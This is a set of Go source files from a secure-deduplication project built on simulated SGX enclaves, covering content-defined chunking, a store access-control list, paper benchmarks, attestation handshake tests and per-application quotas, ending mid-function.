	// the first DefaultMin bytes entirely (FastCDC's sub-minimum skip).
	DefaultMin = 2 << 10
	// DefaultAvg is the target average chunk size (the normalization
	// point where the cut-point search switches from the hard to the
	// easy mask).
	DefaultAvg = 8 << 10
	// DefaultMax is the forced cut: no chunk exceeds it.
	DefaultMax = 64 << 10
	// DefaultSeed derives the default gear table. Every runtime and
	// store sharing chunks MUST use the same seed (and the same
	// min/avg/max): the gear table defines the boundaries, and only
	// identical boundaries make chunk tags converge across
	// applications.
	DefaultSeed = 0x5eedc0de9f3a7b41
)

// Config selects the chunking geometry and the gear-table seed. The
// zero value selects all defaults.
type Config struct {
	// Min, Avg and Max bound chunk sizes: every chunk except a short
	// final remainder is in [Min, Max], and Avg is the normalization
	// point of the two-mask FastCDC search. Zero selects the defaults.
	Min, Avg, Max int
	// Seed derives the 256-entry gear table deterministically
	// (SplitMix64). Zero selects DefaultSeed.
	Seed uint64
}

func (c Config) withDefaults() Config {
	if c.Min == 0 {
		c.Min = DefaultMin
	}
	if c.Avg == 0 {
		c.Avg = DefaultAvg
	}
	if c.Max == 0 {
		c.Max = DefaultMax
	}
	if c.Seed == 0 {
		c.Seed = DefaultSeed
	}
	return c
}

// Chunker splits byte streams at content-defined boundaries. It is
// immutable after construction and safe for concurrent use.
type Chunker struct {
	min, avg, max int
	// maskS (small, hard: more bits) applies before the normalization
	// point, maskL (large, easy: fewer bits) after — FastCDC's
	// normalized chunking, which tightens the size distribution around
	// avg compared to a single mask. Both masks select high-order bits
	// of the gear hash, where every byte of the 64-byte rolling window
	// has diffused.
	maskS, maskL uint64
	gear         [256]uint64
}

// NewChunker validates cfg and builds the chunker.
func NewChunker(cfg Config) (*Chunker, error) {
	cfg = cfg.withDefaults()
	switch {
	case cfg.Min < 64:
		return nil, fmt.Errorf("chunk: Min %d below 64", cfg.Min)
	case cfg.Avg < 256:
		return nil, fmt.Errorf("chunk: Avg %d below 256", cfg.Avg)
	case cfg.Min > cfg.Avg:
		return nil, fmt.Errorf("chunk: Min %d exceeds Avg %d", cfg.Min, cfg.Avg)
	case cfg.Avg > cfg.Max:
		return nil, fmt.Errorf("chunk: Avg %d exceeds Max %d", cfg.Avg, cfg.Max)
	case cfg.Max > 1<<30:
		return nil, fmt.Errorf("chunk: Max %d exceeds 1GiB", cfg.Max)
	}
	c := &Chunker{min: cfg.Min, avg: cfg.Avg, max: cfg.Max}
	b := bits.Len(uint(cfg.Avg)) - 1 // floor(log2(avg))
	c.maskS = topBits(b + 2)
	c.maskL = topBits(b - 2)
	fillGear(&c.gear, cfg.Seed)
	return c, nil
}

// MaxSize reports the chunker's forced-cut bound.
func (c *Chunker) MaxSize() int { return c.max }

// topBits builds a mask of the n highest bits of a uint64.
func topBits(n int) uint64 {
	if n <= 0 {
		n = 1
	}
	if n > 63 {
		n = 63
	}
	return ((uint64(1) << n) - 1) << (64 - n)
}

// fillGear derives the gear table from the seed with SplitMix64, the
// standard statistically-uniform seed expander.
func fillGear(t *[256]uint64, seed uint64) {
	s := seed
	for i := range t {
		s += 0x9e3779b97f4a7c15
		z := s
		z ^= z >> 30
		z *= 0xbf58476d1ce4e5b9
		z ^= z >> 27
		z *= 0x94d049bb133111eb
		z ^= z >> 31
		t[i] = z
	}
}

// cut returns the length of the first chunk of data: the first
// content-defined boundary in (min, max], or len(data) when data is
// shorter than max and contains no boundary (the caller decides whether
// that is a final remainder or needs more data — see Stream). The
// decision depends only on the prefix it returns, so a boundary found
// here is final no matter how much data follows.
func (c *Chunker) cut(data []byte) int {
	n := len(data)
	if n <= c.min {
		return n
	}
	if n > c.max {
		n = c.max
	}
	normal := c.avg
	if normal > n {
		normal = n
	}
	var h uint64
	i := c.min
	for ; i < normal; i++ {
		h = h<<1 + c.gear[data[i]]
		if h&c.maskS == 0 {
			return i + 1
		}
	}
	for ; i < n; i++ {
		h = h<<1 + c.gear[data[i]]
		if h&c.maskL == 0 {
			return i + 1
		}
	}
	return n
}

// AppendSplit splits data into content-defined chunks, appending them
// to dst and returning the extended slice. The chunks are zero-copy
// subslices of data — concatenated in order they are exactly data.
// Reusing dst across calls makes steady-state splitting allocation-free.
func (c *Chunker) AppendSplit(dst [][]byte, data []byte) [][]byte {
	for len(data) > 0 {
		n := c.cut(data)
		dst = append(dst, data[:n:n])
		data = data[n:]
	}
	return dst
}

// Split is AppendSplit into a fresh slice.
func (c *Chunker) Split(data []byte) [][]byte {
	if len(data) == 0 {
		return nil
	}
	return c.AppendSplit(make([][]byte, 0, len(data)/c.avg+1), data)
}

// errStreamClosed guards against writes after Close.
var errStreamClosed = errors.New("chunk: write to closed Stream")

// Stream chunks a byte stream incrementally: bytes written to it are
// cut at exactly the boundaries Split would choose on the concatenated
// input, and each completed chunk is handed to the emit callback as
// soon as its boundary is known. Memory is bounded by one maximum-size
// chunk regardless of the total stream length, which is what lets the
// compute substrates (compress, mapreduce) emit huge results without
// ever buffering them whole.
//
// The chunk slice passed to emit is borrowed: it aliases the stream's
// internal buffer (or the caller's input) and is valid only for the
// duration of the call. Close flushes the final remainder chunk (which
// may be shorter than Min).
type Stream struct {
	c      *Chunker
	emit   func(chunk []byte) error
	buf    []byte
	closed bool
}

// NewStream builds an incremental chunking stream over the chunker.
func (c *Chunker) NewStream(emit func(chunk []byte) error) *Stream {
	return &Stream{c: c, emit: emit, buf: make([]byte, 0, c.max)}
}

// Write implements io.Writer, emitting every chunk whose boundary
// became definitive.
func (s *Stream) Write(p []byte) (int, error) {
	if s.closed {
		return 0, errStreamClosed
	}
	total := len(p)
	// Fast path: while the pending buffer is empty, whole chunks can be
	// emitted straight out of p with no copy at all.
	for len(s.buf) == 0 && len(p) > 0 {
		n := s.c.cut(p)
		if n == len(p) && n < s.c.max {
			break // boundary not definitive yet; buffer the tail
		}
		if err := s.emit(p[:n:n]); err != nil {
			return total - len(p), err
		}
		p = p[n:]
	}
	for len(p) > 0 {
		room := s.c.max - len(s.buf)
		n := len(p)
		if n > room {
			n = room
		}
		s.buf = append(s.buf, p[:n]...)
		p = p[n:]
		if err := s.drain(false); err != nil {
			return total - len(p), err
		}
	}
	return total, nil
}

// drain emits definitive chunks from the pending buffer. With final
// true the buffer is flushed entirely (stream end: the remainder is a
// chunk even without a boundary).
func (s *Stream) drain(final bool) error {
	for len(s.buf) > 0 {
		n := s.c.cut(s.buf)
		if n == len(s.buf) && len(s.buf) < s.c.max && !final {
			return nil // need more data for a definitive boundary
		}
		if err := s.emit(s.buf[:n:n]); err != nil {
			return err
		}
		s.buf = append(s.buf[:0], s.buf[n:]...)
	}
	return nil
}

// Close flushes the final chunk. It does not invalidate previously
// emitted chunks (they were only ever borrowed during emit).
func (s *Stream) Close() error {
	if s.closed {
		return nil
	}
	s.closed = true
	return s.drain(true)
}
