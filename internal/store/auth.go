package store

import (
	"errors"
	"sync"

	"speed/internal/enclave"
	"speed/internal/mle"
)

// Controlled deduplication (Section III-D): the keyless RCE scheme
// means any application that owns a computation can decrypt its stored
// result, but it does not restrict who may talk to the ResultStore at
// all. This file adds the "additional authorization mechanism" the
// paper calls for: per-application permissions checked on every
// operation, keyed by the attested enclave measurement.

// Permission is a bit set of store operations an application may
// perform.
type Permission uint8

// Permission bits.
const (
	// PermGet allows duplicate checking and result retrieval.
	PermGet Permission = 1 << iota
	// PermPut allows uploading fresh results.
	PermPut
)

// PermAll grants every operation.
const PermAll = PermGet | PermPut

// ErrUnauthorized is returned when an operation is denied by the
// store's authorizer.
var ErrUnauthorized = errors.New("store: unauthorized")

// Authorizer decides whether an attested application may perform an
// operation. Implementations must be safe for concurrent use.
type Authorizer interface {
	// Authorize reports whether app may perform the operations in
	// perm on the computation identified by tag.
	Authorize(app enclave.Measurement, tag mle.Tag, perm Permission) error
}

// ACL is an Authorizer with per-application permission grants and a
// configurable default.
type ACL struct {
	mu      sync.RWMutex
	grants  map[enclave.Measurement]Permission
	defPerm Permission
}

var _ Authorizer = (*ACL)(nil)

// NewACL creates an ACL whose unlisted applications receive def.
// NewACL(store.PermAll) is open; NewACL(0) is deny-by-default.
func NewACL(def Permission) *ACL {
	return &ACL{
		grants:  make(map[enclave.Measurement]Permission),
		defPerm: def,
	}
}

// Grant sets an application's permissions, replacing any previous
// grant.
func (a *ACL) Grant(app enclave.Measurement, perm Permission) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.grants[app] = perm
}

// Revoke removes an application's explicit grant; it falls back to the
// default.
func (a *ACL) Revoke(app enclave.Measurement) {
	a.mu.Lock()
	defer a.mu.Unlock()
	delete(a.grants, app)
}

// Authorize implements Authorizer.
func (a *ACL) Authorize(app enclave.Measurement, _ mle.Tag, perm Permission) error {
	a.mu.RLock()
	granted, ok := a.grants[app]
	a.mu.RUnlock()
	if !ok {
		granted = a.defPerm
	}
	if granted&perm != perm {
		return ErrUnauthorized
	}
	return nil
}
