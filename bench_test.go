// Benchmarks regenerating the paper's evaluation with testing.B, one
// family per table/figure:
//
//	BenchmarkTableI*    — Table I, per cryptographic operation and size
//	BenchmarkFig5*      — Fig. 5(a)-(d), baseline / initial / subsequent
//	BenchmarkFig6*      — Fig. 6, ResultStore GET/PUT with and w/o SGX
//	BenchmarkAblation*  — the DESIGN.md ablations
//
// Run with: go test -bench=. -benchmem
// The cmd/speedbench tool prints the same experiments as formatted
// tables with the paper's exact parameters.
package speed_test

import (
	"crypto/rand"
	"crypto/sha256"
	"fmt"
	"strings"
	"testing"

	"speed/internal/compress"
	"speed/internal/dedup"
	"speed/internal/enclave"
	"speed/internal/mapreduce"
	"speed/internal/mle"
	"speed/internal/pattern"
	"speed/internal/sift"
	"speed/internal/store"
	"speed/internal/workload"
)

var table1Sizes = []struct {
	name string
	n    int
}{
	{"1KB", 1 << 10},
	{"10KB", 10 << 10},
	{"100KB", 100 << 10},
	{"1MB", 1 << 20},
}

func randomBytes(b *testing.B, n int) []byte {
	b.Helper()
	buf := make([]byte, n)
	if _, err := rand.Read(buf); err != nil {
		b.Fatal(err)
	}
	return buf
}

func benchFuncID() mle.FuncID {
	return mle.FuncID(sha256.Sum256([]byte("bench func")))
}

// ---- Table I ----

func BenchmarkTableITagGen(b *testing.B) {
	id := benchFuncID()
	for _, size := range table1Sizes {
		b.Run(size.name, func(b *testing.B) {
			input := randomBytes(b, size.n)
			b.SetBytes(int64(size.n))
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				_ = mle.ComputeTag(id, input)
			}
		})
	}
}

func BenchmarkTableIKeyGen(b *testing.B) {
	id := benchFuncID()
	for _, size := range table1Sizes {
		b.Run(size.name, func(b *testing.B) {
			input := randomBytes(b, size.n)
			b.SetBytes(int64(size.n))
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, _, _, err := mle.KeyGen(id, input, nil); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

func BenchmarkTableIKeyRec(b *testing.B) {
	id := benchFuncID()
	for _, size := range table1Sizes {
		b.Run(size.name, func(b *testing.B) {
			input := randomBytes(b, size.n)
			challenge, wrapped, _, err := mle.KeyGen(id, input, nil)
			if err != nil {
				b.Fatal(err)
			}
			b.SetBytes(int64(size.n))
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, err := mle.KeyRec(id, input, challenge, wrapped); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

func BenchmarkTableIResultEnc(b *testing.B) {
	for _, size := range table1Sizes {
		b.Run(size.name, func(b *testing.B) {
			key, err := mle.GenerateKey(nil)
			if err != nil {
				b.Fatal(err)
			}
			result := randomBytes(b, size.n)
			b.SetBytes(int64(size.n))
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, err := mle.EncryptResult(key, result, nil); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

func BenchmarkTableIResultDec(b *testing.B) {
	for _, size := range table1Sizes {
		b.Run(size.name, func(b *testing.B) {
			key, err := mle.GenerateKey(nil)
			if err != nil {
				b.Fatal(err)
			}
			blob, err := mle.EncryptResult(key, randomBytes(b, size.n), nil)
			if err != nil {
				b.Fatal(err)
			}
			b.SetBytes(int64(size.n))
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, err := mle.DecryptResult(key, blob); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// ---- Fig. 5 plumbing ----

// fig5Env is a deployment for Fig. 5 benchmarks: app + store on one
// platform with simulated SGX costs.
type fig5Env struct {
	appEnc  *enclave.Enclave
	runtime *dedup.Runtime
}

func newFig5Env(b *testing.B) *fig5Env {
	b.Helper()
	platform := enclave.NewPlatform(enclave.Config{SimulateCosts: true})
	appEnc, err := platform.Create("app", []byte("app code"))
	if err != nil {
		b.Fatal(err)
	}
	storeEnc, err := platform.Create("store", []byte("store code"))
	if err != nil {
		b.Fatal(err)
	}
	st, err := store.New(store.Config{Enclave: storeEnc})
	if err != nil {
		b.Fatal(err)
	}
	rt, err := dedup.NewRuntime(dedup.Config{
		Enclave: appEnc,
		Client:  dedup.NewLocalClient(st, appEnc.Measurement()),
		Logf:    func(string, ...any) {},
	})
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() {
		_ = rt.Close()
		st.Close()
	})
	return &fig5Env{appEnc: appEnc, runtime: rt}
}

// benchCase runs the three Fig. 5 measurements as sub-benchmarks.
func benchCase(b *testing.B, input []byte, compute func([]byte) ([]byte, error)) {
	b.Run("Baseline", func(b *testing.B) {
		env := newFig5Env(b)
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if err := env.appEnc.ECall(func() error {
				_, err := compute(input)
				return err
			}); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("InitComp", func(b *testing.B) {
		env := newFig5Env(b)
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			// A fresh FuncID per iteration keeps every Execute a miss
			// while the computation itself stays identical.
			var id mle.FuncID
			id[0], id[1], id[2], id[3] = byte(i), byte(i>>8), byte(i>>16), byte(i>>24)
			if _, _, err := env.runtime.Execute(id, input, compute); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("SubsqComp", func(b *testing.B) {
		env := newFig5Env(b)
		id := benchFuncID()
		if _, _, err := env.runtime.Execute(id, input, compute); err != nil {
			b.Fatal(err)
		}
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			_, outcome, err := env.runtime.Execute(id, input, compute)
			if err != nil {
				b.Fatal(err)
			}
			if outcome != dedup.OutcomeReused {
				b.Fatalf("outcome = %v, want reused", outcome)
			}
		}
	})
}

// ---- Fig. 5(a): SIFT ----

func BenchmarkFig5aSIFT(b *testing.B) {
	for _, size := range []int{64, 128, 192} {
		b.Run(fmt.Sprintf("%dx%d", size, size), func(b *testing.B) {
			img := workload.New(101).Image(size, size)
			input := sift.EncodeGray(img)
			compute := func(in []byte) ([]byte, error) {
				g, err := sift.DecodeGray(in)
				if err != nil {
					return nil, err
				}
				return sift.EncodeKeypoints(sift.Detect(g, sift.DefaultParams())), nil
			}
			benchCase(b, input, compute)
		})
	}
}

// ---- Fig. 5(b): compression ----

func BenchmarkFig5bCompress(b *testing.B) {
	for _, size := range []int{256 << 10, 1 << 20} {
		b.Run(fmt.Sprintf("%dKB", size>>10), func(b *testing.B) {
			input := workload.New(102).Text(size)
			compute := func(in []byte) ([]byte, error) {
				return compress.Compress(in), nil
			}
			benchCase(b, input, compute)
		})
	}
}

// ---- Fig. 5(c): pattern matching ----

func BenchmarkFig5cPattern(b *testing.B) {
	src := workload.New(103)
	rules := src.SnortRules(3700)
	rs, err := pattern.CompileRules(rules)
	if err != nil {
		b.Fatal(err)
	}
	for _, size := range []int{64 << 10, 256 << 10} {
		b.Run(fmt.Sprintf("%dKB", size>>10), func(b *testing.B) {
			var payload []byte
			for len(payload) < size {
				payload = append(payload, src.Packet(512, rules, 0.05)...)
			}
			payload = payload[:size]
			compute := func(in []byte) ([]byte, error) {
				return pattern.EncodeScanResult(rs.Scan(in)), nil
			}
			benchCase(b, payload, compute)
		})
	}
}

// ---- Fig. 5(d): BoW ----

func BenchmarkFig5dBoW(b *testing.B) {
	src := workload.New(104)
	for _, pages := range []int{300, 1000} {
		b.Run(fmt.Sprintf("%dpages", pages), func(b *testing.B) {
			var corpus strings.Builder
			for i := 0; i < pages; i++ {
				corpus.WriteString(src.WebPage(200))
				corpus.WriteByte('\n')
			}
			input := []byte(corpus.String())
			compute := func(in []byte) ([]byte, error) {
				counts, err := mapreduce.BagOfWords(strings.Split(string(in), "\n"), 4)
				if err != nil {
					return nil, err
				}
				return mapreduce.EncodeCounts(counts), nil
			}
			benchCase(b, input, compute)
		})
	}
}

// ---- Fig. 6: ResultStore throughput ----

func benchFig6(b *testing.B, withSGX bool) {
	for _, size := range table1Sizes {
		b.Run(size.name, func(b *testing.B) {
			platform := enclave.NewPlatform(enclave.Config{SimulateCosts: withSGX})
			storeEnc, err := platform.Create("store", []byte("store code"))
			if err != nil {
				b.Fatal(err)
			}
			st, err := store.New(store.Config{Enclave: storeEnc})
			if err != nil {
				b.Fatal(err)
			}
			b.Cleanup(st.Close)
			var owner enclave.Measurement
			blob := randomBytes(b, size.n)
			sealed := mle.Sealed{
				Challenge:  randomBytes(b, mle.ChallengeSize),
				WrappedKey: randomBytes(b, mle.KeySize),
				Blob:       blob,
			}

			b.Run("Put", func(b *testing.B) {
				b.SetBytes(int64(size.n))
				for i := 0; i < b.N; i++ {
					var tag mle.Tag
					tag[0], tag[1], tag[2], tag[3] = byte(i), byte(i>>8), byte(i>>16), byte(i>>24)
					if _, err := st.Put(owner, tag, sealed); err != nil {
						b.Fatal(err)
					}
				}
			})
			b.Run("Get", func(b *testing.B) {
				var tag mle.Tag
				tag[31] = 0xFF
				if _, err := st.Put(owner, tag, sealed); err != nil {
					b.Fatal(err)
				}
				b.SetBytes(int64(size.n))
				b.ResetTimer()
				for i := 0; i < b.N; i++ {
					_, found, err := st.Get(tag)
					if err != nil {
						b.Fatal(err)
					}
					if !found {
						b.Fatal("entry missing")
					}
				}
			})
		})
	}
}

func BenchmarkFig6WithSGX(b *testing.B)    { benchFig6(b, true) }
func BenchmarkFig6WithoutSGX(b *testing.B) { benchFig6(b, false) }

// ---- Ablations ----

func BenchmarkAblationSchemeRCE(b *testing.B) {
	benchScheme(b, &mle.RCE{})
}

func BenchmarkAblationSchemeSingleKey(b *testing.B) {
	var key [mle.KeySize]byte
	copy(key[:], "bench-single-key")
	benchScheme(b, mle.NewSingleKey(key, nil))
}

func benchScheme(b *testing.B, scheme mle.Scheme) {
	id := benchFuncID()
	for _, size := range table1Sizes {
		b.Run(size.name, func(b *testing.B) {
			input := randomBytes(b, size.n)
			result := randomBytes(b, size.n)
			b.Run("Encrypt", func(b *testing.B) {
				b.SetBytes(int64(size.n))
				for i := 0; i < b.N; i++ {
					if _, err := scheme.Encrypt(id, input, result); err != nil {
						b.Fatal(err)
					}
				}
			})
			b.Run("Decrypt", func(b *testing.B) {
				sealed, err := scheme.Encrypt(id, input, result)
				if err != nil {
					b.Fatal(err)
				}
				b.SetBytes(int64(size.n))
				b.ResetTimer()
				for i := 0; i < b.N; i++ {
					if _, err := scheme.Decrypt(id, input, sealed); err != nil {
						b.Fatal(err)
					}
				}
			})
		})
	}
}

func BenchmarkAblationAsyncPut(b *testing.B) {
	for _, mode := range []struct {
		name  string
		async bool
	}{{"Sync", false}, {"Async", true}} {
		b.Run(mode.name, func(b *testing.B) {
			platform := enclave.NewPlatform(enclave.Config{SimulateCosts: true})
			appEnc, err := platform.Create("app", []byte("app"))
			if err != nil {
				b.Fatal(err)
			}
			storeEnc, err := platform.Create("store", []byte("store"))
			if err != nil {
				b.Fatal(err)
			}
			st, err := store.New(store.Config{Enclave: storeEnc})
			if err != nil {
				b.Fatal(err)
			}
			rt, err := dedup.NewRuntime(dedup.Config{
				Enclave:       appEnc,
				Client:        dedup.NewLocalClient(st, appEnc.Measurement()),
				AsyncPut:      mode.async,
				PutQueueDepth: 1 << 16,
				Logf:          func(string, ...any) {},
			})
			if err != nil {
				b.Fatal(err)
			}
			b.Cleanup(func() {
				_ = rt.Close()
				st.Close()
			})
			result := randomBytes(b, 256<<10)
			compute := func([]byte) ([]byte, error) { return result, nil }
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				var id mle.FuncID
				id[0], id[1], id[2], id[3] = byte(i), byte(i>>8), byte(i>>16), byte(i>>24)
				if _, _, err := rt.Execute(id, []byte("input"), compute); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkAblationBlobPlacement measures Put cost when ciphertexts
// additionally occupy (and page) the enclave, versus the paper's
// metadata-only design.
func BenchmarkAblationBlobPlacement(b *testing.B) {
	for _, mode := range []struct {
		name   string
		inside bool
	}{{"BlobsOutside", false}, {"BlobsInside", true}} {
		b.Run(mode.name, func(b *testing.B) {
			platform := enclave.NewPlatform(enclave.Config{
				SimulateCosts:  true,
				EPCBytes:       1 << 40, // unbounded total; paging begins past usable
				EPCUsableBytes: 16 << 20,
			})
			storeEnc, err := platform.Create("store", []byte("store"))
			if err != nil {
				b.Fatal(err)
			}
			st, err := store.New(store.Config{Enclave: storeEnc})
			if err != nil {
				b.Fatal(err)
			}
			b.Cleanup(st.Close)
			var owner enclave.Measurement
			blob := randomBytes(b, 8<<10)
			sealed := mle.Sealed{Challenge: blob[:16], WrappedKey: blob[:16], Blob: blob}
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				var tag mle.Tag
				tag[0], tag[1], tag[2], tag[3] = byte(i), byte(i>>8), byte(i>>16), byte(i>>24)
				if _, err := st.Put(owner, tag, sealed); err != nil {
					b.Fatal(err)
				}
				if mode.inside {
					if err := storeEnc.Alloc(int64(len(blob))); err != nil {
						b.Fatal(err)
					}
				}
			}
		})
	}
}
