package wire

import (
	"errors"
	"net"
	"testing"

	"speed/internal/enclave"
)

// trustPair runs a cross-platform handshake: client on platform A,
// server on platform B, each side given the supplied trust sets.
func trustPair(t *testing.T, clientTrust, serverTrust *Trust) (client, server *Channel, cerr, serr error) {
	t.Helper()
	pA := enclave.NewPlatform(enclave.Config{})
	pB := enclave.NewPlatform(enclave.Config{})
	app, err := pA.Create("app", []byte("app code"))
	if err != nil {
		t.Fatalf("create app: %v", err)
	}
	st, err := pB.Create("store", []byte("store code"))
	if err != nil {
		t.Fatalf("create store: %v", err)
	}

	cConn, sConn := net.Pipe()
	done := make(chan struct{})
	go func() {
		defer close(done)
		server, serr = ServerHandshakeTrust(sConn, st, nil, serverTrust)
		if serr != nil {
			// A failed server never sends its hello; unblock the
			// client by closing the pipe.
			sConn.Close()
		}
	}()
	client, cerr = ClientHandshakeTrust(cConn, app, st.Measurement(), clientTrust)
	<-done
	if cerr != nil {
		cConn.Close()
	}
	return client, server, cerr, serr
}

func platformKeysOf(t *testing.T, seeds ...string) map[string][]byte {
	t.Helper()
	out := make(map[string][]byte, len(seeds))
	for _, s := range seeds {
		p := enclave.NewPlatform(enclave.Config{PlatformSeed: []byte(s)})
		out[s] = p.AttestationPublicKey()
	}
	return out
}

func TestCrossPlatformHandshakeWithMutualTrust(t *testing.T) {
	// Build the two platforms first so we can exchange their keys.
	pA := enclave.NewPlatform(enclave.Config{})
	pB := enclave.NewPlatform(enclave.Config{})
	app, _ := pA.Create("app", []byte("app code"))
	st, _ := pB.Create("store", []byte("store code"))

	clientTrust := &Trust{PlatformKeys: [][]byte{pB.AttestationPublicKey()}}
	serverTrust := &Trust{PlatformKeys: [][]byte{pA.AttestationPublicKey()}}

	cConn, sConn := net.Pipe()
	type res struct {
		ch  *Channel
		err error
	}
	serverDone := make(chan res, 1)
	go func() {
		ch, err := ServerHandshakeTrust(sConn, st, nil, serverTrust)
		serverDone <- res{ch, err}
	}()
	client, err := ClientHandshakeTrust(cConn, app, st.Measurement(), clientTrust)
	sr := <-serverDone
	if err != nil {
		t.Fatalf("client handshake: %v", err)
	}
	if sr.err != nil {
		t.Fatalf("server handshake: %v", sr.err)
	}
	defer client.Close()

	if client.Peer() != st.Measurement() {
		t.Error("client sees wrong peer measurement")
	}
	if sr.ch.Peer() != app.Measurement() {
		t.Error("server sees wrong peer measurement")
	}

	// Traffic flows.
	go func() { _ = sr.ch.Send([]byte("pong")) }()
	done := make(chan error, 1)
	go func() {
		msg, rerr := client.Recv()
		if rerr != nil {
			done <- rerr
			return
		}
		if string(msg) != "pong" {
			done <- errors.New("wrong payload")
			return
		}
		done <- nil
	}()
	if err := <-done; err != nil {
		t.Fatalf("cross-platform traffic: %v", err)
	}
}

func TestCrossPlatformRejectedWithoutTrust(t *testing.T) {
	_, _, cerr, serr := trustPair(t, nil, nil)
	if cerr == nil && serr == nil {
		t.Fatal("cross-platform handshake succeeded with no trust configured")
	}
}

func TestCrossPlatformRejectedWithWrongTrust(t *testing.T) {
	// Both sides trust some unrelated third platform.
	other := enclave.NewPlatform(enclave.Config{})
	wrong := &Trust{PlatformKeys: [][]byte{other.AttestationPublicKey()}}
	_, _, cerr, serr := trustPair(t, wrong, wrong)
	if cerr == nil && serr == nil {
		t.Fatal("cross-platform handshake succeeded with wrong trust set")
	}
}

func TestQuoteMarshalRoundTrip(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{})
	e, _ := p.Create("app", []byte("code"))
	q, err := e.Quote([]byte("key material"))
	if err != nil {
		t.Fatalf("Quote: %v", err)
	}
	got, err := enclave.UnmarshalQuote(q.Marshal())
	if err != nil {
		t.Fatalf("UnmarshalQuote: %v", err)
	}
	if got.Measurement != q.Measurement || string(got.Sig) != string(q.Sig) {
		t.Error("quote round trip mismatch")
	}
	if err := enclave.VerifyQuote(got, [][]byte{p.AttestationPublicKey()}); err != nil {
		t.Errorf("VerifyQuote after round trip: %v", err)
	}
	if _, err := enclave.UnmarshalQuote(q.Marshal()[:10]); err == nil {
		t.Error("UnmarshalQuote accepted truncated input")
	}
}

func TestQuoteTamperRejected(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{})
	e, _ := p.Create("app", []byte("code"))
	trusted := [][]byte{p.AttestationPublicKey()}

	base, err := e.Quote([]byte("data"))
	if err != nil {
		t.Fatalf("Quote: %v", err)
	}
	mutations := map[string]func(enclave.Quote) enclave.Quote{
		"measurement": func(q enclave.Quote) enclave.Quote { q.Measurement[0] ^= 1; return q },
		"data":        func(q enclave.Quote) enclave.Quote { q.Data[0] ^= 1; return q },
		"signature":   func(q enclave.Quote) enclave.Quote { q.Sig = append([]byte(nil), q.Sig...); q.Sig[4] ^= 1; return q },
	}
	for name, mutate := range mutations {
		if err := enclave.VerifyQuote(mutate(base), trusted); !errors.Is(err, enclave.ErrQuoteVerification) {
			t.Errorf("%s tamper: VerifyQuote = %v, want ErrQuoteVerification", name, err)
		}
	}
	// Untrusted platform.
	if err := enclave.VerifyQuote(base, nil); !errors.Is(err, enclave.ErrQuoteVerification) {
		t.Errorf("untrusted platform: VerifyQuote = %v", err)
	}
}

func TestSeededPlatformAttestationKeyStable(t *testing.T) {
	keys := platformKeysOf(t, "machine-X")
	again := platformKeysOf(t, "machine-X")
	if string(keys["machine-X"]) != string(again["machine-X"]) {
		t.Error("seeded platform attestation key not deterministic")
	}
	other := platformKeysOf(t, "machine-Y")
	if string(keys["machine-X"]) == string(other["machine-Y"]) {
		t.Error("different seeds produced identical attestation keys")
	}
}
