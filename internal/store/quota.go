package store

import (
	"sync"
	"time"

	"speed/internal/enclave"
)

// QuotaConfig configures the per-application quota mechanism the paper
// proposes against PUT-flooding denial of service ("we can adopt the
// rate-limiting strategy into SPEED, which involves a quota mechanism
// to limit the cache space for each application", Section III-D).
type QuotaConfig struct {
	// MaxBytesPerApp caps the total ciphertext bytes an application may
	// have resident in the store. Zero means unlimited.
	MaxBytesPerApp int64
	// PutRatePerSec is the sustained PUT rate allowed per application
	// via a token bucket. Zero means unlimited.
	PutRatePerSec float64
	// PutBurst is the token-bucket burst capacity; defaults to
	// PutRatePerSec when zero.
	PutBurst float64
}

// quotas tracks per-application usage. The identity of an application
// is its attested enclave measurement.
type quotas struct {
	cfg QuotaConfig
	now func() time.Time

	mu   sync.Mutex
	apps map[enclave.Measurement]*appQuota
}

type appQuota struct {
	bytes  int64
	tokens float64
	last   time.Time
}

func newQuotas(cfg QuotaConfig, now func() time.Time) *quotas {
	if now == nil {
		now = time.Now
	}
	if cfg.PutBurst == 0 {
		cfg.PutBurst = cfg.PutRatePerSec
	}
	return &quotas{cfg: cfg, now: now, apps: make(map[enclave.Measurement]*appQuota)}
}

func (q *quotas) app(id enclave.Measurement) *appQuota {
	a, ok := q.apps[id]
	if !ok {
		a = &appQuota{tokens: q.cfg.PutBurst, last: q.now()}
		q.apps[id] = a
	}
	return a
}

// allowPut checks and consumes quota for a PUT of n ciphertext bytes by
// the given application. It reports whether the request is admitted and
// a reason when it is not. skipRate bypasses the token bucket (used for
// operator-initiated snapshot restores, which are not request traffic)
// while still accounting the bytes.
func (q *quotas) allowPut(id enclave.Measurement, n int64, skipRate bool) (bool, string) {
	q.mu.Lock()
	defer q.mu.Unlock()
	a := q.app(id)

	if q.cfg.PutRatePerSec > 0 && !skipRate {
		now := q.now()
		elapsed := now.Sub(a.last).Seconds()
		a.last = now
		a.tokens += elapsed * q.cfg.PutRatePerSec
		if a.tokens > q.cfg.PutBurst {
			a.tokens = q.cfg.PutBurst
		}
		if a.tokens < 1 {
			return false, "put rate limit exceeded"
		}
		a.tokens--
	}

	if q.cfg.MaxBytesPerApp > 0 && a.bytes+n > q.cfg.MaxBytesPerApp {
		return false, "cache space quota exceeded"
	}
	a.bytes += n
	return true, ""
}

// creditBytes returns n bytes to the application's space quota, used
// when an entry is evicted or a PUT loses a race with a concurrent
// duplicate.
func (q *quotas) creditBytes(id enclave.Measurement, n int64) {
	q.mu.Lock()
	defer q.mu.Unlock()
	a := q.app(id)
	a.bytes -= n
